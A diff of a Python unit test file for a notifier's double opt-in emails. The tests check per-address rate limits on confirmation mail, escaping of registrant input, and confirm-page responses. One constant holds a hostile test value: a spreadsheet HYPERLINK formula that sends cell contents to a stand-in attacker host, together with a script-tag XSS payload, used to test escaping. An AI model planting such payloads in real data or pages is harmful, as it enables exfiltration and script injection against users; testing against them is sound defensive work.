@@ -1,4 +1,4 @@
-"""Double opt-in after the QA pass (F4, F7), against the notifier's fakes:
+"""Double opt-in's limits, against the notifier's fakes:
 
 - an address gets at most one confirmation email per ``notifier_confirmation_min_interval_days``, whatever supplier
   registered it and however often (five suppliers, the same address in any case, removed and added again): the
@@ -16,22 +16,15 @@ import pytest
 
 from contracts import SupplierProfile
 from contracts.supplier import EmailConfirmation
-from services.notifier.domain.rendering import LABELS, PAGE_LABELS
+from services.notifier.domain.pages import PAGE_LABELS
+from services.notifier.domain.rendering import LABELS
 from tests.unit.notifier.factories import NOW, profile
-from tests.unit.notifier.test_confirmation import AGENCY, REGISTERED, confirm_link, metric, seed, text
-from tests.unit.notifier.test_service import Rig, http, unit_settings
+from tests.unit.notifier.rig import AGENCY, REGISTERED, Rig, confirm_link, http, metric, seed, text, unit_settings
 
 pytestmark = pytest.mark.unit
 
 VICTIM = "victim@example.org"
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click") <script>alert(1)</script>'
-
-
-@pytest.fixture
-def rig() -> Rig:
-    r = Rig(unit_settings())
-    r.matcher.clock = lambda: r.now
-    return r
 
 
 def bomb(supplier_id: str, address: str = VICTIM, *, at: object = REGISTERED, **kw: str) -> SupplierProfile:
@@ -44,52 +37,54 @@ def keys(rig: Rig) -> list[str]:
     return [k.split("|")[0] for k in rig.keys_sent()]
 
 
-# -- F4: one confirmation email per address and interval ------------------------------------------------------
+# -- one confirmation email per address and interval ------------------------------------------------------
 
 
 def test_five_registrations_of_one_address_send_it_one_email_then_one_per_interval(rig: Rig) -> None:
     seed(rig, *(bomb(f"qa-bomb-{i}", VICTIM if i % 2 else VICTIM.upper().replace("EXAMPLE.ORG", "example.org"))
                 for i in range(5)))  # fmt: skip
     n = rig.notifier()
-    n.send_confirmations()
+    n.confirmations.send_confirmations()
     assert keys(rig) == ["qa-bomb-0"]
     assert metric(n, "notifier_confirmations_held_total") == 4
 
     rig.now += timedelta(days=29)
-    n.send_confirmations()
+    n.confirmations.send_confirmations()
     for p in [rig.profiles.get(f"qa-bomb-{i}") for i in range(5)]:  # the profiles published again meanwhile
         assert p is not None
         rig.profiles.put(p)
-    rig.notifier(instance_id="n2").send_confirmations()  # another instance, or a restart: the turn is in the store
+    rig.notifier(
+        instance_id="n2"
+    ).confirmations.send_confirmations()  # another instance, or a restart: the turn is in the store
     assert keys(rig) == ["qa-bomb-0"]
 
     rig.now += timedelta(days=1, seconds=1)
-    n.send_confirmations()
+    n.confirmations.send_confirmations()
     assert keys(rig) == ["qa-bomb-0", "qa-bomb-1"]
-    n.send_confirmations()
+    n.confirmations.send_confirmations()
     assert keys(rig) == ["qa-bomb-0", "qa-bomb-1"]
 
 
 def test_registering_the_address_again_and_again_is_held_too(rig: Rig) -> None:
     seed(rig, bomb("a"))
     n = rig.notifier()
-    n.send_confirmations()
+    n.confirmations.send_confirmations()
     for minutes in (1, 2, 3):  # the supplier's own key removes and adds the address: a new registration each time
         seed(rig, bomb("a", at=REGISTERED + timedelta(minutes=minutes)))
-        n.send_confirmations()
+        n.confirmations.send_confirmations()
     assert len(rig.mail.sent) == 1
 
 
 def test_no_limit_when_the_interval_is_zero(rig: Rig) -> None:
     rig.settings = unit_settings(notifier_confirmation_min_interval_days=0)
     seed(rig, *(bomb(f"s{i}") for i in range(3)))
-    rig.notifier().send_confirmations()
+    rig.notifier().confirmations.send_confirmations()
     assert keys(rig) == ["s0", "s1", "s2"]
 
 
 def test_the_subject_is_fixed_and_what_the_registrant_typed_stays_in_the_escaped_body(rig: Rig) -> None:
     seed(rig, bomb("a", name=EVIL), bomb("z", "other@example.org", name=EVIL, language="zh-Hans"))
-    rig.notifier().send_confirmations()
+    rig.notifier().confirmations.send_confirmations()
     en, zh = rig.mail.sent
     assert (
         str(en["Subject"])
@@ -110,7 +105,7 @@ def test_the_subject_is_fixed_and_what_the_registrant_typed_stays_in_the_escaped
 def test_accepting_confirms_the_address_for_the_supplier_named_in_the_email_only(rig: Rig) -> None:
     seed(rig, bomb("first"), bomb("second"))
     n, client = http(rig)
-    n.send_confirmations()
+    n.confirmations.send_confirmations()
     [sent] = rig.mail.sent
     assert client.post(confirm_link(sent)).status_code == 200
     first, second = rig.profiles.get("first"), rig.profiles.get("second")
@@ -120,13 +115,13 @@ def test_accepting_confirms_the_address_for_the_supplier_named_in_the_email_only
     assert second.alert_emails() == []
 
 
-# -- F7: GET /confirm checks what the POST would ----------------------------------------------------------------
+# -- GET /confirm checks what the POST would ----------------------------------------------------------------
 
 
 def test_the_page_of_a_deleted_supplier_shows_no_button_and_the_posts_404(rig: Rig) -> None:
     seed(rig, bomb("a", language="zh-Hans"))
     n, client = http(rig)
-    n.send_confirmations()
+    n.confirmations.send_confirmations()
     link = confirm_link(rig.mail.sent[0])
     assert '<form method="post"' in client.get(link).text  # live while the supplier exists
     del rig.matcher.profiles["a"]
@@ -143,7 +138,7 @@ def test_the_page_of_a_deleted_supplier_shows_no_button_and_the_posts_404(rig: R
 def test_the_page_of_a_removed_or_registered_again_address_shows_no_button_and_the_posts_410(rig: Rig) -> None:
     seed(rig, bomb("a"))
     n, client = http(rig)
-    n.send_confirmations()
+    n.confirmations.send_confirmations()
     link = confirm_link(rig.mail.sent[0])
     seed(rig, bomb("a", at=NOW))  # registered again since the email
     page = client.get(link)
@@ -159,7 +154,7 @@ def test_the_page_of_a_removed_or_registered_again_address_shows_no_button_and_t
 def test_the_page_answers_json_on_request_and_says_when_the_address_is_confirmed_already(rig: Rig) -> None:
     seed(rig, bomb("a"))
     n, client = http(rig)
-    n.send_confirmations()
+    n.confirmations.send_confirmations()
     link = confirm_link(rig.mail.sent[0])
     wanted = {"supplier_id": "a", "address": VICTIM}
     assert client.get(link, headers={"Accept": "application/json"}).json() == {**wanted, "confirmed": False}
